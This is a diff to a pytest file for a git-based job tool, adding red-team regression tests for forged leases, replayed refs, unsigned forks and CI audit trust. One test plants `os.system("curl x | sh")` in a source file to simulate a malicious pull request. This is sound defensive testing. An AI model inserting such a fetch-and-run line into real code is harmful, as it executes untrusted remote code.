@@ -10,11 +10,13 @@ from __future__ import annotations
 import json
 import os
 import subprocess
+import time
 from pathlib import Path
 
 import pygit2
+import pytest
 
-from git_genjob.documents.canonical import canonical_bytes, digest, sha256_hex
+from git_genjob.documents.canonical import canonical_bytes, digest, format_time, sha256_hex
 from git_genjob.documents.job import Job, seal_job
 from git_genjob.documents.keys import generate
 from git_genjob.replay.cache import Cache, fingerprint, request_doc
@@ -693,14 +695,25 @@ def test_another_signed_job_s_chain_under_this_key_is_no_rival(tmp_path: Path) -
 
 
 def test_two_chains_from_one_submit_commit_are_still_a_race_fetch_names(tmp_path: Path) -> None:
+    """A trusted worker's signed claim through the remote against the owner's own unpushed one:
+    a real race, exit 4 naming the job (a person decides); the rest of the push still goes out."""
+    from git_genjob.documents.keys import read_signing_key
+    from git_genjob.planner.ledger import claim
+    from git_genjob.storage.publish import publisher
+
     bare, owner, key, k = _owner(tmp_path)
-    attacker = _attacker(tmp_path, bare)
-    theirs = _append_event(attacker, k, {}, event="renewed")
-    git(attacker, "push", "-q", "origin", f"{theirs}:refs/genjob/jobs/{k}")
-    mine = _append_event(owner, k, {"x": b"1"}, event="renewed")  # the owner's clone moves its own way
-    git(owner, "update-ref", f"refs/genjob/jobs/{k}", mine)
+    _rt_clone_worker = _honest_worker(tmp_path, bare, key, k, lease_s=600, sending=False)
+    assert _rt_clone_worker.exists()
+    store = Store.open(str(owner))
+    record = load_live(store, k)
+    assert record is not None
+    claim(publisher(store), record, "w-local", 600, read_signing_key(str(key)))  # unpushed, signed
+    k2 = submit_key(owner, "-m", "Add a retry", "src/user.py")
     fetched = run_genjob("fetch", cwd=owner)
     assert fetched.code == 4 and k in fetched.err
+    pushed = run_genjob("push", cwd=owner)
+    assert pushed.code == 4 and k in pushed.err
+    assert git(bare, "rev-parse", f"refs/genjob/jobs/{k2}").strip() == refs(owner)[f"refs/genjob/jobs/{k2}"]
 
 
 def test_malformed_replay_events_from_a_remote_block_no_replay(tmp_path: Path, stub) -> None:  # type: ignore[no-untyped-def]
@@ -765,3 +778,140 @@ def test_a_job_a_keyless_remote_forged_holds_no_path_against_a_hand_commit(tmp_p
     git(owner, "add", "src/user.py")
     held = subprocess.run(["git", "commit", "-qm", "user"], cwd=owner, capture_output=True, text=True)
     assert held.returncode == 1 and f"src/user.py is held by live job {k}" in held.stderr  # the signed one does
+
+
+# -- found by the red-team pass of 2026-12-05; each failed before its fix ---------------------------
+
+
+def _rt_clone(tmp_path: Path, bare: Path, name: str) -> Path:
+    clone = tmp_path / name
+    git(tmp_path, "clone", "-q", str(bare), str(clone))
+    assert run_genjob("fetch", cwd=clone).code == 0
+    return clone
+
+
+def _honest_worker(tmp_path: Path, bare: Path, key: Path, k: str, lease_s: float, sending: bool) -> Path:
+    """Another machine's worker claims the job with its trusted key (and records `sending`),
+    pushing each event to the remote, then dies."""
+    from git_genjob.documents.keys import read_signing_key
+    from git_genjob.planner.ledger import claim, record_sending
+    from git_genjob.storage.publish import publisher
+
+    clone = _rt_clone(tmp_path, bare, "worker")
+    store = Store.open(str(clone))
+    record = load_live(store, k)
+    assert record is not None
+    pub = publisher(store, "origin")
+    pub.refresh()
+    lease = claim(pub, record, "w1", lease_s, read_signing_key(str(key)))
+    if sending:
+        record_sending(pub, lease)
+    return clone
+
+
+def _replace_tip(repo: Path, k: str, edit: dict[str, bytes]) -> str:
+    """A sibling of the job ref's tip: same parent, message and every other file (the worker's
+    signed event envelope included), with `edit` applied to its tree."""
+    raw = raw_repo(Store.open(str(repo)))
+    tip = raw[raw.references[f"refs/genjob/jobs/{k}"].target]
+    builder = raw.TreeBuilder(tip.tree)
+    for name, data in edit.items():
+        builder.insert(name, raw.create_blob(data), pygit2.enums.FileMode.BLOB)
+    new = raw.create_commit(None, tip.author, tip.committer, tip.message, builder.write(), tip.parent_ids)
+    return str(new)
+
+
+def test_a_trusted_worker_s_signed_claim_re_used_with_a_longer_lease_is_fenced(tmp_path: Path) -> None:
+    bare, owner, key, k = _owner(tmp_path)
+    _honest_worker(tmp_path, bare, key, k, lease_s=1, sending=False)  # a 1 s lease; the worker dies
+    attacker = _rt_clone(tmp_path, bare, "attacker")
+    doc = json.loads(git(attacker, "show", f"refs/genjob/jobs/{k}:attempts.json"))
+    doc["attempts"][-1]["lease_until"] = format_time(time.time() + 23 * 3600)
+    forged = _replace_tip(attacker, k, {"attempts.json": canonical_bytes(doc)})
+    git(attacker, "push", "-q", "-f", "origin", f"{forged}:refs/genjob/jobs/{k}")
+
+    assert run_genjob("fetch", cwd=owner).code == 0  # the owner had only the submit commit
+    assert refs(owner)[f"refs/genjob/jobs/{k}"] == forged  # adopted: a fast-forward from there
+    time.sleep(1.5)  # the lease the worker signed for has run out
+    res = run_genjob("recover", "--json", cwd=owner)
+    assert res.code == 0, res.err
+    # what should hold: the lease the worker took lapsed, so the job is requeued (or fenced)
+    assert json.loads(res.out)["requeued"] == [k], res.out
+
+
+def test_a_dropped_signed_job_replayed_under_another_ref_name_holds_no_path(tmp_path: Path) -> None:
+    import subprocess
+
+    bare, owner, key, k = _owner(tmp_path)
+    assert run_genjob("init", "--hooks", cwd=owner).code == 0
+    submit = git(owner, "rev-list", "--max-parents=0", f"refs/genjob/jobs/{k}").strip()
+    assert run_genjob("drop", k, "--why", "not wanted", cwd=owner).code == 0
+    assert run_genjob("push", cwd=owner).code == 0
+    attacker = _rt_clone(tmp_path, bare, "attacker")
+    other = "f" * 32  # any name but the job's own (its own is in the archive: fetch skips it)
+    git(attacker, "push", "-q", "origin", f"{submit}:refs/genjob/jobs/{other}")
+    assert run_genjob("fetch", cwd=owner).code == 0
+
+    (owner / "src" / "user.py").write_text("by hand\n")
+    git(owner, "add", "src/user.py")
+    done = subprocess.run(["git", "commit", "-qm", "by hand"], cwd=owner, capture_output=True, text=True)
+    assert done.returncode == 0, done.stderr  # what should hold: a job that was dropped holds nothing
+
+
+def test_an_unsigned_sibling_chain_from_a_remote_does_not_block_push(tmp_path: Path) -> None:
+    from git_genjob.documents.keys import read_signing_key
+    from git_genjob.planner.ledger import claim
+    from git_genjob.storage.publish import publisher
+
+    bare, owner, key, k = _owner(tmp_path)
+    store = Store.open(str(owner))
+    record = load_live(store, k)
+    assert record is not None
+    claim(publisher(store), record, "w1", 600, read_signing_key(str(key)))  # local, signed, not yet pushed
+    attacker = _rt_clone(tmp_path, bare, "attacker")
+    doc = {"epoch": 1, "state": "claimed", "attempts": []}
+    raw = raw_repo(Store.open(str(attacker)))
+    tip = raw[raw.references[f"refs/genjob/jobs/{k}"].target]
+    builder = raw.TreeBuilder(tip.tree)
+    builder.insert("attempts.json", raw.create_blob(canonical_bytes(doc)), pygit2.enums.FileMode.BLOB)
+    sig = pygit2.Signature("Mallory", "m@example.com", 1700000000, 0)
+    forged = raw.create_commit(None, sig, sig, tip.message, builder.write(), [tip.id])  # unsigned
+    git(attacker, "push", "-q", "origin", f"{forged}:refs/genjob/jobs/{k}")
+
+    res = run_genjob("push", cwd=owner)
+    assert res.code == 0, res.err  # what should hold: an unsigned fork is kept out, ours pushed
+
+
+def test_the_ci_audit_of_a_pull_request_does_not_take_the_pull_request_s_own_trust(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    bare, owner = repo_with_remote(tmp_path, "owner")
+    setup_worker(owner)
+    git(owner, "push", "-q", "origin", "main")
+    base = git(owner, "rev-parse", "HEAD").strip()
+
+    fork = tmp_path / "fork"  # the pull request's author: no key the owner trusts
+    git(tmp_path, "clone", "-q", str(bare), str(fork))
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "mallory-config"))
+    mallory = setup_worker(fork, "mallory")  # init (its own planner key), keygen, trust add, commit
+    k = submit_key(fork, "-m", "Tidy fetch_user", "src/user.py")
+    res = work(fork, mallory, "printf 'import os\\nos.system(\"curl x | sh\")\\n' > src/user.py", "--once")
+    assert res.code == 0, res.err
+    assert run_genjob("apply", k, cwd=fork).code == 0
+    head = git(fork, "rev-parse", "HEAD").strip()
+
+    assert run_genjob("audit", f"{base}..{head}", cwd=fork).code == 0  # by the request's own .genjob/
+    # the audit step ci init writes: the target branch's trust judges the request's commits
+    audit = run_genjob("audit", "--trust-from", base, f"{base}..{head}", cwd=fork)
+    assert audit.code != 0, audit.out  # keys only the pull request trusts vouch for nothing
+    for forge in ("github", "gitlab"):
+        out = tmp_path / f"ci-{forge}"
+        git(tmp_path, "init", "-q", "-b", "main", str(out))
+        assert run_genjob("ci", "init", forge, cwd=out).code == 0
+        lines = [
+            line
+            for f in out.rglob("*.yml")
+            for line in f.read_text().splitlines()
+            if "git genjob audit" in line and "--format md" in line
+        ]
+        assert lines and all("--trust-from" in line for line in lines), lines
